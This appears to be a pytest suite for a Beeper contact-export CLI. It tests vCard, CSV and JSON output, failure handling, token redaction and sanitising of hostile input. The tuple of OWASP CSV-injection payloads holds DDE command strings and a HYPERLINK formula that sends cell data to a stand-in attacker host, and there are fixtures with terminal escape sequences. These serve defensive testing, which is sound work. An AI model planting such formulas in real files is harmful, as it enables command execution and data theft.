"""``beeper-tui export``: formats, streaming, atomic files, errors — against the demo."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
import vobject  # type: ignore[import-untyped]
from starlette.applications import Starlette

import beeper_tui.config as config_module
from beeper_tui.api.models import Account, ContactPage, User
from beeper_tui.cli import main as cli_main
from beeper_tui.demo import Dataset, DemoState, FaultRule, build_dataset, create_demo_app
from beeper_tui.service.accounts import searched_accounts
from beeper_tui.service.book import AddressBook
from beeper_tui.service.export.formats import (
    CSV_COLUMNS,
    CsvWriter,
    JsonArrayWriter,
    VCardWriter,
    clean_text,
    neutralise_cell,
)
from beeper_tui.service.export.run import ExportProgress, export_contacts, iter_contact_pages
from beeper_tui.service.names import best_name
from beeper_tui.service.person import Contact
from beeper_tui.wiring import open_backend
from tests.cli_helpers import export_main

MATRIX = "matrix"  # holds the hostile names
PAGE = "200"  # the demo's largest page: fewer round trips, same code paths
SECRET = "sekrit-token-9f8e7d"

_C0 = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def small_dataset() -> Dataset:
    # The default Slack workspace has 20,000 members; 300 keep the file fast.
    return build_dataset(big_account_size=300)


@pytest.fixture
def demo_app(small_dataset: Dataset) -> Starlette:
    """Overrides the shared fixture: demo_state and demo_server use this app too."""
    return create_demo_app(small_dataset)


@pytest.fixture(autouse=True)
def clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in ("BEEPER_ACCESS_TOKEN", "BEEPER_BASE_URL", "BEEPER_DESKTOP_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    (tmp_path / "cfg").mkdir()
    monkeypatch.setattr(config_module, "default_config_path", lambda: tmp_path / "cfg" / "c.toml")


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    path = tmp_path / "out"
    path.mkdir()
    return path


def account_id(dataset: Dataset, key: str) -> str:
    return next(a.account_id for a in dataset.accounts if a.spec.key == key)


def contact_count(dataset: Dataset, *keys: str) -> int:
    return sum(len(a.contacts) for a in dataset.accounts if not keys or a.spec.key in keys)


def enabled_count(dataset: Dataset) -> int:
    """Contacts ``--all`` exports: the accounts the user left out (disabled) stay out."""
    return sum(len(a.contacts) for a in dataset.accounts if a.spec.status != "disabled")


def run(demo_app: Starlette, *args: str) -> int:
    """The server pager's export (``--no-cache``): one record per contact, as Desktop sends."""
    return export_main(["--demo", "--no-cache", "--page-size", PAGE, *args], demo_app=demo_app)


def run_from_book(demo_app: Starlette, *args: str) -> int:
    """The default export: the demo synced into an in-memory book, what the list shows."""
    return export_main(["--demo", "--page-size", PAGE, *args], demo_app=demo_app)


def cards(text: str) -> list[Any]:
    return list(vobject.readComponents(text))


def prop(card: Any, name: str) -> str | None:
    lines = card.contents.get(name)
    return str(lines[0].value) if lines else None


def error_lines(err: str) -> list[str]:
    return [line for line in err.splitlines() if line]


# -- vCard ------------------------------------------------------------------


def test_vcf_one_account_reads_back_every_card(
    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "matrix.vcf"
    assert run(demo_app, "--account", MATRIX, "--format", "vcf", "-o", str(target)) == 0
    assert capsys.readouterr() == ("", "")
    raw = target.read_bytes()
    text = raw.decode("utf-8")
    assert "\r\n" in text
    assert "\n" not in text.replace("\r\n", "")
    assert not _C0.search(text.replace("\r\n", ""))

    parsed = cards(text)
    wire = {c["id"]: c for c in small_dataset.account(MATRIX).contacts}  # type: ignore[union-attr]
    assert len(parsed) == len(wire)
    by_id = {prop(c, "x-beeper-user-id"): c for c in parsed}
    assert set(by_id) == set(wire)
    for card in parsed:
        assert prop(card, "version") == "4.0"
        assert prop(card, "x-beeper-account-id") == MATRIX
        assert prop(card, "x-beeper-network") == "Beeper"
        assert prop(card, "fn")
        assert (prop(card, "uid") or "").startswith("urn:uuid:")

    # Hostile text: the escape sequences are gone whole (OSC 52 too), the brackets stay literal.
    assert prop(by_id["@mallory:matrix.org"], "fn") == "[red]x[/red]"
    assert prop(by_id["@mallory:matrix.org"], "x-beeper-username") == "@mallory"
    assert prop(by_id["@ansi:matrix.org"], "fn") == "red"
    # No name: the email, else the handle, else the user ID.
    assert prop(by_id["@nameless:matrix.org"], "fn") == "nameless@matrix.example"
    assert prop(by_id["@nameless:matrix.org"], "email") == "nameless@matrix.example"
    assert prop(by_id["@ghost:matrix.org"], "fn") == "@ghost:matrix.org"
    long_name = prop(by_id["@longname:matrix.org"], "fn")
    assert long_name == wire["@longname:matrix.org"]["fullName"].strip()


def test_vcf_all_accounts_and_a_phone_only_contact(
    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "all.vcf"
    assert run(demo_app, "--all", "--format", "vcf", "-o", str(target)) == 0
    assert capsys.readouterr().err == ""
    parsed = cards(target.read_text(encoding="utf-8"))
    assert len(parsed) == enabled_count(small_dataset)
    keys = {(prop(c, "x-beeper-account-id"), prop(c, "x-beeper-user-id")) for c in parsed}
    assert len(keys) == len(parsed)

    imessage = small_dataset.account(account_id(small_dataset, "imessagecloud"))
    assert imessage is not None
    phone_only = next(
        c
        for c in imessage.contacts
        if c.get("phoneNumber") and not (c.get("fullName") or c.get("username") or c.get("email"))
    )
    card = next(c for c in parsed if prop(c, "x-beeper-user-id") == phone_only["id"])
    assert prop(card, "fn") == phone_only["phoneNumber"]
    assert prop(card, "tel") == phone_only["phoneNumber"]
    assert card.contents["tel"][0].params == {"TYPE": ["cell"]}
    assert prop(card, "x-beeper-network") == "iMessage"
    assert "n" not in card.contents


def test_vcard_escapes_and_strips_controls() -> None:
    hostile = User(
        id="@evil;id,x:beeper.com",
        full_name="Smith, John; \\o/\r\nsecond line\x00\x1b[2J\u2028third\x07",
        username="@a,b;c",
        phone_number="+1 (415) 555-2671",
        email="j@example.com",
        is_self=True,
    )
    plain = User(id="@p:beeper.com", full_name="Zoë Lindqvist", cannot_message=True)
    stream = io.StringIO()
    writer = VCardWriter(stream)
    writer.write_header()
    writer.write_contact(Contact(hostile, "acc;1"), "Net,work")
    writer.write_contact(Contact(plain, "acc;1"), "Net,work")
    writer.close()
    text = stream.getvalue()
    assert not _C0.search(text.replace("\r\n", ""))
    first, second = cards(text)
    assert prop(first, "fn") == "Smith, John; \\o/\nsecond line\nthird"
    assert "n" not in first.contents  # not a plain "Given Family" name: no guessing
    assert prop(first, "tel") == "+14155552671"
    assert prop(first, "email") == "j@example.com"
    assert prop(first, "nickname") == "@a,b;c"
    assert prop(first, "x-beeper-user-id") == "@evil;id,x:beeper.com"
    assert prop(first, "x-beeper-account-id") == "acc;1"
    assert prop(first, "x-beeper-network") == "Net,work"
    assert prop(first, "x-beeper-is-self") == "true"
    assert prop(second, "fn") == "Zoë Lindqvist"
    assert second.n.value.family == "Lindqvist"
    assert second.n.value.given == "Zoë"
    assert prop(second, "x-beeper-cannot-message") == "true"
    assert prop(first, "uid") != prop(second, "uid")


# -- CSV --------------------------------------------------------------------


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_all_accounts(
    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "all.csv"
    assert run(demo_app, "--all", "--format", "csv", "-o", str(target)) == 0
    assert capsys.readouterr().err == ""
    raw = target.read_bytes()
    assert raw.startswith("\ufeffperson,name,full_name,".encode())  # BOM: Excel reads UTF-8
    rows = read_csv(target)
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == enabled_count(small_dataset)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not _C0.search(cell)
    # One rule for every cell: phones, handles and IDs alike get the apostrophe.
    phones = [r["phone"] for r in rows if r["phone"]]
    assert phones
    assert all(p.startswith("'+") for p in phones)
    mallory = next(r for r in rows if r["user_id"] == "'@mallory:matrix.org")
    assert mallory["name"] == "[red]x[/red]"
    assert mallory["username"] == "'@mallory"
    assert mallory["account_id"] == MATRIX
    assert mallory["network"] == "Beeper"
    assert {r["is_self"] for r in rows} >= {"true"}
    assert {r["cannot_message"] for r in rows} >= {"true", ""}


def test_csv_neutralises_formulas() -> None:
    for value in ("=1+1", "-2", "@SUM(A1)", "\tx", "\rx", "  =HYPERLINK(1)"):
        assert neutralise_cell(value) == "'" + value
    for value in ("Alice", "", "42", "a=b", "'quoted"):
        assert neutralise_cell(value) == value


# The OWASP CSV-injection cheat sheet's payloads, and variations on phones and handles.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ,,=1+2",
    "+1+1",
    "+44 7533 813808",
    "+4475338138089999999",
    "+0123456789",
    "@SUM(A1:A2)",
    "@zoe+1",
    "@zoe(1)",
    "@ zoe",
    "@",
    "+",
    "\t=1",
    "\r=1",
    " =1",
    "-1+2",
)
REAL_VALUES = ("+447533813808", "+14155552671", "+33612345678", "@zoep244", "@mallory", "@z.o_e")
REAL_VALUES += ("@mallory:matrix.org", "@whatsapp_447533813808:beeper.local")


@pytest.mark.parametrize("value", OWASP_PAYLOADS)
def test_csv_neutralises_owasp_payloads(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", REAL_VALUES)
def test_csv_guards_phones_and_handles_by_the_same_rule(value: str) -> None:
    """Issue 24: one rule for every cell (no ID quoted while its neighbour is not)."""
    assert neutralise_cell(value) == "'" + value

    stream = io.StringIO()
    writer = CsvWriter(stream)
    writer.write_header()
    names = ["=cmd|' /C calc'!A0", "-1+2", "@SUM(1)", "\t=1", "+x", "plain, with; comma"]
    for i, name in enumerate(names):
        writer.write_contact(Contact(User(id=f"u{i}", full_name=name), "acc"), "Net")
    writer.close()
    assert not stream.getvalue().startswith("\ufeff")  # no BOM unless asked (files)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    assert [r["name"] for r in rows] == [
        "'=cmd|' /C calc'!A0",
        "'-1+2",
        "'@SUM(1)",
        "'=1",  # the tab became a space, then leading blanks were trimmed
        "'+x",
        "plain, with; comma",
    ]


def test_csv_to_stdout_has_no_bom(demo_app: Starlette, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(demo_app, "--account", MATRIX, "--format", "csv") == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert out.startswith("person,name,full_name,username,phone,email,user_id,account_id,network,")
    assert out.endswith("\r\n")


# -- JSON -------------------------------------------------------------------


def test_json_array_all_accounts(
    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "all.json"
    assert run(demo_app, "--all", "--format", "json", "-o", str(target)) == 0
    assert capsys.readouterr().err == ""
    data = json.loads(target.read_text(encoding="utf-8"))
    assert isinstance(data, list)
    assert len(data) == enabled_count(small_dataset)
    keys = set().union(*(obj.keys() for obj in data))
    assert {"id", "fullName", "phoneNumber", "imgURL", "accountID", "network"} <= keys
    assert not any("_" in key for key in keys)
    assert "isVerified" not in keys  # keys the client does not know are dropped

    # Apart from the two added keys, each object is what the API sent, nulls left out
    # (as the address book keeps users, so both export paths write the same objects).
    wire = small_dataset.account(MATRIX)
    assert wire is not None
    exported = {o["id"]: o for o in data if o["accountID"] == MATRIX}
    for original in wire.contacts:
        obj = dict(exported[original["id"]])
        assert obj.pop("accountID") == MATRIX
        assert obj.pop("network") == "Beeper"
        assert obj.pop("name")  # the person's display name and key, beside the wire fields
        assert obj.pop("person").startswith("urn:uuid:")
        assert obj == {k: v for k, v in original.items() if v is not None}
    assert "fullName" not in exported["@ghost:matrix.org"]


def test_jsonl_one_account_to_stdout(
    demo_app: Starlette, small_dataset: Dataset, capsys: pytest.CaptureFixture[str]
) -> None:
    telegram = account_id(small_dataset, "telegram")
    assert run(demo_app, "--account", telegram, "--format", "jsonl", "-o", "-") == 0
    out, err = capsys.readouterr()
    assert err == ""
    lines = out.splitlines()
    assert len(lines) == contact_count(small_dataset, "telegram")
    objects = [json.loads(line) for line in lines]
    assert all(o["accountID"] == telegram and o["network"] == "Telegram" for o in objects)
    zoe = next(o for o in objects if o.get("username") == "@zoe_lq")
    assert zoe["fullName"] == "Zoë Lindqvist"
    assert zoe["phoneNumber"] == "+46705550123"


def test_query_filters(
    demo_app: Starlette, small_dataset: Dataset, capsys: pytest.CaptureFixture[str]
) -> None:
    telegram = account_id(small_dataset, "telegram")
    assert run(demo_app, "--account", telegram, "--query", "zoe", "--format", "json") == 0
    data = json.loads(capsys.readouterr().out)
    assert 1 <= len(data) < contact_count(small_dataset, "telegram")
    assert "@zoe_lq" in {o.get("username") for o in data}


def test_empty_result_is_valid_json(
    demo_app: Starlette, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(demo_app, "--account", MATRIX, "--query", "qqqzzzxxx", "--format", "json") == 0
    assert json.loads(capsys.readouterr().out) == []


# -- failures ---------------------------------------------------------------


def leftovers(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir())


def fail_third_page(state: DemoState, account: str) -> None:
    path = rf"^/v1/accounts/{re.escape(account)}/contacts/list$"
    state.faults.add(FaultRule(path=path, delay_ms=0, times=2))  # pages 1-2 pass through
    state.faults.add(FaultRule(path=path, status=500, times=1))


def test_server_error_mid_way_leaves_no_file(
    demo_app: Starlette, demo_state: DemoState, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fail_third_page(demo_state, MATRIX)
    target = out_dir / "matrix.vcf"
    argv = ["--account", MATRIX, "--format", "vcf", "-o", str(target), "--max-retries", "0"]
    assert export_main(["--demo", "--no-cache", "--page-size", "20", *argv], demo_app=demo_app) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = error_lines(err)
    assert len(lines) == 1
    assert lines[0].startswith("beeper-tui export: error: ")
    assert "HTTP 500" in lines[0]
    assert leftovers(out_dir) == []
    assert len(demo_state.requests_to("/contacts/list")) == 3


def test_server_error_keeps_an_existing_file(
    demo_app: Starlette, demo_state: DemoState, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "contacts.json"
    target.write_text("previous export\n", encoding="utf-8")
    fail_third_page(demo_state, MATRIX)
    argv = ["--account", MATRIX, "--format", "json", "-o", str(target), "--max-retries", "0"]
    assert export_main(["--demo", "--no-cache", "--page-size", "20", *argv], demo_app=demo_app) == 1
    assert len(error_lines(capsys.readouterr().err)) == 1
    assert target.read_text(encoding="utf-8") == "previous export\n"
    assert leftovers(out_dir) == ["contacts.json"]


def test_retries_ride_out_one_server_error(
    demo_app: Starlette, demo_state: DemoState, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    demo_state.faults.add(FaultRule(path="/contacts/list$", status=503, retry_after=0, times=1))
    target = out_dir / "m.jsonl"
    assert run(demo_app, "--account", MATRIX, "--format", "jsonl", "-o", str(target)) == 0
    assert capsys.readouterr().err == ""
    assert len(target.read_text(encoding="utf-8").splitlines()) == 150


def test_all_reports_each_failed_account_and_writes_nothing(
    demo_app: Starlette,
    demo_state: DemoState,
    small_dataset: Dataset,
    out_dir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    telegram = account_id(small_dataset, "telegram")
    demo_state.faults.add(FaultRule(path=f"/accounts/{re.escape(telegram)}/", status=500))
    demo_state.faults.add(FaultRule(path=f"/accounts/{MATRIX}/", status=502))
    target = out_dir / "all.jsonl"
    argv = ["--all", "--format", "jsonl", "-o", str(target), "--max-retries", "0"]
    assert run(demo_app, *argv) == 1
    lines = error_lines(capsys.readouterr().err)
    assert len(lines) == 3
    assert any(telegram in line and "HTTP 500" in line for line in lines)
    assert any(MATRIX in line and "HTTP 502" in line for line in lines)
    assert "2 of 11 accounts failed" in lines[-1]
    assert leftovers(out_dir) == []
    # Skip none: every enabled account was asked for its contacts (the disabled one is left out).
    asked = {r.path.split("/")[3] for r in demo_state.requests_to("/contacts/list")}
    enabled = [a for a in small_dataset.accounts if a.spec.status != "disabled"]
    assert len(asked) == len(enabled) == len(small_dataset.accounts) - 1


def test_unknown_account(demo_app: Starlette, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(demo_app, "--account", "no-such-account", "--format", "csv") == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = error_lines(err)
    assert len(lines) == 1
    assert lines[0].startswith(
        "beeper-tui export: error: --account 'no-such-account' matches no account; choose one of: "
    )
    assert "telegram (Telegram · " in lines[0]


def test_account_by_network_name(
    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "wa.csv"
    assert run(demo_app, "--account", "whatsapp", "--format", "csv", "-o", str(target)) == 0
    assert capsys.readouterr().err == ""
    rows = read_csv(target)
    whatsapp = account_id(small_dataset, "whatsapp")
    assert whatsapp.startswith("local-whatsapp_")
    assert {r["account_id"] for r in rows} == {whatsapp}
    assert len(rows) == contact_count(small_dataset, "whatsapp")
    phones = [r["phone"] for r in rows if r["phone"]]
    assert phones
    assert all(p.startswith("'+") for p in phones)


def test_account_by_unique_prefix_and_ambiguous(
    demo_app: Starlette, small_dataset: Dataset, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "tg.csv"
    assert run(demo_app, "--account", "tele", "--format", "csv", "-o", str(target)) == 0
    assert {r["account_id"] for r in read_csv(target)} == {account_id(small_dataset, "telegram")}
    capsys.readouterr()
    # "i" starts iMessage, Instagram and imessagecloud_…: the choices are listed.
    assert run(demo_app, "--account", "i", "--format", "csv") == 1
    (line,) = error_lines(capsys.readouterr().err)
    assert "matches more than one account; choose one of:" in line
    assert "(iMessage · " in line
    assert "(Instagram · " in line
    assert "(Telegram · " not in line


def test_cannot_connect(out_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = out_dir / "x.vcf"
    argv = ["--all", "--format", "vcf", "-o", str(target), "--token", SECRET]
    # Port 9 (discard) on loopback: nothing listens there in a test environment.
    assert export_main([*argv, "--base-url", "http://127.0.0.1:9", "--max-retries", "0"]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = error_lines(err)
    assert len(lines) == 1
    assert "Cannot reach Beeper Desktop at http://127.0.0.1:9" in lines[0]
    assert SECRET not in err
    assert leftovers(out_dir) == []


@pytest.mark.parametrize(
    ("argv", "needle"),
    [
        (["--format", "vcf"], "one of the arguments --account --all is required"),
        (["--all", "--account", "x", "--format", "vcf"], "not allowed with argument"),
        (["--all"], "the following arguments are required: --format"),
        (["--all", "--format", "xml"], "invalid choice: 'xml'"),
        (["--all", "--format", "csv", "--page-size", "0"], "must be at least 1"),
        (["--all", "--format", "csv", "--max-retries", "-1"], "must not be negative"),
        (["--all", "--format", "csv", "--bogus"], "unrecognized arguments: --bogus"),
        (["--all", "--format", "csv", "--page-size", "501"], "invalid page_size"),
    ],
)
def test_bad_arguments_exit_2(
    argv: list[str], needle: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert export_main(["--demo", "--token", SECRET, *argv]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    lines = error_lines(err)
    assert len(lines) == 1
    assert lines[0].startswith("beeper-tui export: error: ")
    assert needle in lines[0]
    assert SECRET not in err


def test_bad_argument_never_echoes_the_token(capsys: pytest.CaptureFixture[str]) -> None:
    # A token pasted where an option was expected is echoed back by argparse.
    assert export_main(["--all", "--format", "csv", "--token", SECRET, SECRET]) == 2
    err = capsys.readouterr().err
    assert "unrecognized arguments" in err
    assert SECRET not in err


def test_output_is_a_directory(
    demo_app: Starlette, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(demo_app, "--all", "--format", "csv", "-o", str(out_dir)) == 2
    assert len(error_lines(capsys.readouterr().err)) == 1


def test_no_token_outside_demo(capsys: pytest.CaptureFixture[str]) -> None:
    assert export_main(["--all", "--format", "csv", "--base-url", "http://127.0.0.1:9"]) == 2
    assert "no access token" in capsys.readouterr().err


def test_cli_dispatches_export(demo_app: Starlette, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main(["export", "--format", "csv"]) == 2
    assert capsys.readouterr().err.startswith("beeper-tui export: error: ")
    assert cli_main(["export", "--help"]) == 0
    assert "--format {vcf,csv,json,jsonl}" in capsys.readouterr().out


# -- over real HTTP ---------------------------------------------------------


def test_over_http_with_token(
    demo_server: str,
    demo_state: DemoState,
    small_dataset: Dataset,
    out_dir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    target = out_dir / "all.vcf"
    argv = ["--all", "--format", "vcf", "-o", str(target), "--page-size", PAGE]
    argv.append("--no-cache")  # the pager, one card per contact
    assert export_main([*argv, "--base-url", demo_server, "--token", "demo-token"]) == 0
    out, err = capsys.readouterr()
    assert (out, err) == ("", "")
    assert len(cards(target.read_text(encoding="utf-8"))) == enabled_count(small_dataset)
    # Discovery (/v1/info) is the one call that never carries the token.
    assert all(r.authorized for r in demo_state.requests if r.path != "/v1/info")
    assert "demo-token" not in target.read_text(encoding="utf-8")


def test_over_http_env_settings_and_rejected_token(
    demo_server: str,
    demo_state: DemoState,
    out_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("BEEPER_BASE_URL", demo_server)
    monkeypatch.setenv("BEEPER_ACCESS_TOKEN", "demo-token")
    assert export_main(["--account", MATRIX, "--format", "jsonl"]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert len(out.splitlines()) == 150

    # A flag beats the environment; the rejected token never shows.
    target = out_dir / "x.csv"
    argv = ["--account", MATRIX, "--format", "csv", "-o", str(target), "--token", SECRET]
    assert export_main(argv) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = error_lines(err)
    assert len(lines) == 1
    assert "HTTP 401" in lines[0]
    assert SECRET not in err
    assert leftovers(out_dir) == []


# -- progress and streaming -------------------------------------------------


def test_progress_bar_only_on_a_terminal(
    demo_app: Starlette,
    out_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    target = out_dir / "m.json"
    assert run(demo_app, "--account", MATRIX, "--format", "json", "-o", str(target)) == 0
    out, err = capsys.readouterr()
    assert out == ""
    assert "150 contacts" in err
    assert "Beeper (matrix)" in err
    assert len(json.loads(target.read_text(encoding="utf-8"))) == 150


class ScriptedClient:
    """Answers list_contacts from a script; records the cursors it was sent."""

    def __init__(self, pages: Sequence[ContactPage]) -> None:
        self.pages = list(pages)
        self.cursors: list[str | None] = []

    async def list_contacts(self, account_id: str, **kwargs: Any) -> ContactPage:
        self.cursors.append(kwargs.get("cursor"))
        return self.pages.pop(0)


def page(ids: Sequence[str], cursor: str | None, has_more: bool | None = True) -> ContactPage:
    return ContactPage(items=[User(id=i) for i in ids], has_more=has_more, oldest_cursor=cursor)


async def test_pages_stream_and_stop_on_a_repeated_cursor() -> None:
    client = ScriptedClient([page(["a", "b"], "c1"), page(["b", "c"], "c2"), page(["d"], "c1")])
    seen = [
        [u.id for u in users]
        async for users in iter_contact_pages(client, "acc")  # type: ignore[arg-type]
    ]
    assert seen == [["a", "b"], ["c"], ["d"]]
    assert client.cursors == [None, "c1", "c2"]


async def test_export_contacts_writes_each_page_as_it_arrives() -> None:
    class Probe(io.StringIO):
        def __init__(self) -> None:
            super().__init__()
            self.at_flush: list[int] = []

        def flush(self) -> None:
            self.at_flush.append(self.getvalue().count('"id"'))

    client = ScriptedClient([page(["a", "b"], "c1"), page(["c"], None, has_more=False)])
    account = Account.model_validate({"accountID": "acc", "user": {"id": "me"}, "network": "Net"})
    stream = Probe()
    updates: list[ExportProgress] = []
    result = await export_contacts(
        client,  # type: ignore[arg-type]
        [account],
        JsonArrayWriter(stream),
        progress=updates.append,
    )
    assert result.written == 3
    assert result.complete
    assert stream.at_flush[:2] == [2, 3]  # page 1 was out before page 2 was asked for
    assert [u.total_written for u in updates] == [0, 2, 3]
    assert updates[-1] == ExportProgress("acc", "Net", 1, 1, 3, 3)
    assert [
        {k: v for k, v in o.items() if k != "person"} for o in json.loads(stream.getvalue())
    ] == [{"id": i, "accountID": "acc", "network": "Net", "name": i} for i in "abc"]


def test_clean_text() -> None:
    assert clean_text("a\r\nb\rc\u2028d\x85e") == "a\nb\nc\nd\ne"
    assert clean_text("a\r\nb", newlines=False) == "a b"
    assert clean_text("\x1b[1mbold\x1b[0m\x00\x7f\x9b") == "bold"
    assert clean_text("tab\there") == "tab here"
    assert clean_text("\ud800x") == "\ufffdx"
    assert clean_text("  \x07 ") is None
    assert clean_text(None) is None


# -- the export is the screen (issue 24) ------------------------------------------


async def _listed(demo_app: Starlette, query: str) -> list[Contact]:
    """The people the list shows for every enabled demo account and ``query``."""
    backend = open_backend(
        base_url="http://127.0.0.1:9",
        access_token=None,
        page_size=50,
        demo=True,
        demo_app=demo_app,
    )
    try:
        accounts = searched_accounts(await backend.resolve_accounts(None))
        backend.book = await AddressBook.open(None)
        await backend.book.syncer(backend.client).run(accounts)
        people = await backend.book_people(accounts, query)
        assert people is not None
        return list(people)
    finally:
        await backend.book.close()
        await backend.aclose()


def test_export_writes_the_people_the_list_shows(
    demo_app: Starlette, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "anna.vcf"
    argv = ["--all", "--query", "anna", "--format", "vcf", "-o", str(target)]
    assert run_from_book(demo_app, *argv) == 0
    assert capsys.readouterr().err == ""
    parsed = cards(target.read_text(encoding="utf-8"))
    listed = asyncio.run(_listed(demo_app, "anna"))
    assert listed
    assert [prop(c, "fn") for c in parsed] == [best_name(p.user) for p in listed]
    assert len({prop(c, "uid") for c in parsed}) == len(parsed)  # one card per person
    for card, person in zip(parsed, listed, strict=True):
        emails = {str(e.value) for e in card.contents.get("email", [])}
        assert emails == {i.user.email for i in person.identities if i.user.email}
        ids = {str(e.value) for e in card.contents.get("x-beeper-user-id", [])}
        assert ids == {i.user.id for i in person.identities}


def test_csv_rows_carry_the_person(
    demo_app: Starlette, out_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = out_dir / "anna.csv"
    assert (
        run_from_book(demo_app, "--all", "--query", "anna", "--format", "csv", "-o", str(target))
        == 0
    )
    rows = read_csv(target)
    listed = asyncio.run(_listed(demo_app, "anna"))
    assert len({r["person"] for r in rows}) == len(listed)
    assert len(rows) == sum(len(p.identities) for p in listed)
    by_person: dict[str, set[str]] = {}
    for row in rows:
        by_person.setdefault(row["person"], set()).add(row["name"])
    assert all(len(names) == 1 for names in by_person.values())  # the person's one name


def test_the_vcard_writer_folds_and_escapes_what_vobject_reads_back() -> None:
    """The hand-written vCard: 75-octet lines, never split inside a character."""
    name = "Zoë Ångström, née Łukasiewicz; «ça va» \\ " + "😀" * 30
    stream = io.StringIO()
    writer = VCardWriter(stream)
    writer.write_contact(Contact(User(id="u1", full_name=name, email="z@x.invalid"), "acc"), "Net")
    text = stream.getvalue()
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert text.endswith("END:VCARD\r\n")
    card = vobject.readOne(text)
    assert card.fn.value == name
    assert card.email.value == "z@x.invalid"
